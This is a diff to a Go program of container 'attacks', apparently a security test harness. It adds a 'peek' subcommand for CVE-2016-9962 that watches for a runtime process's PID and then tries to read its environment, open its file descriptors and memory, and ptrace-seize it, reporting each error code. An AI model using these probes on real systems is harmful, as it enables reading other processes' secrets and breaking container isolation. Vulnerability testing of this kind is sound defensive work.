@@ -43,6 +43,8 @@ func main() {
 		}
 	case "swap":
 		swap(os.Args[2], os.Args[3])
+	case "peek":
+		peek(os.Args[2])
 	default:
 		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
 		os.Exit(2)
@@ -189,4 +191,49 @@ func swap(a, b string) {
 			fmt.Println("swapping")
 		}
 	}
+}
+
+// peek is CVE-2016-9962: once the file names a pid (a runtime process
+// that joined the container, held before its execve), try what a process
+// with the same ids and capabilities could do to it: read its
+// environment, open its fds and memory, attach to it.
+func peek(file string) {
+	var pid string
+	for {
+		if b, err := os.ReadFile(file); err == nil && len(b) > 0 {
+			pid = strings.TrimSpace(string(b))
+			os.Remove(file)
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	p := "/proc/" + pid
+	_, err := os.ReadFile(p + "/environ")
+	fmt.Println("environ", errno(err))
+	ents, err := os.ReadDir(p + "/fd")
+	fmt.Println("fd-list", len(ents), errno(err))
+	for n := 0; n < 16; n++ {
+		f := p + "/fd/" + strconv.Itoa(n)
+		if _, err := os.Lstat(f); err != nil {
+			continue
+		}
+		fd, err := unix.Open(f, unix.O_PATH|unix.O_CLOEXEC, 0)
+		if err == nil {
+			unix.Close(fd)
+		}
+		link, lerr := os.Readlink(f)
+		fmt.Println("fd", n, "open", errno(err), "readlink", errno(lerr), link)
+	}
+	fd, err := unix.Open(p+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0)
+	if err == nil {
+		unix.Close(fd)
+	}
+	fmt.Println("mem", errno(err))
+	n, err := strconv.Atoi(pid)
+	if err == nil {
+		// Seize, not attach: no SIGSTOP left behind; our exit detaches.
+		err = unix.PtraceSeize(n)
+	}
+	fmt.Println("ptrace", errno(err))
+	fmt.Println("done", pid)
 }
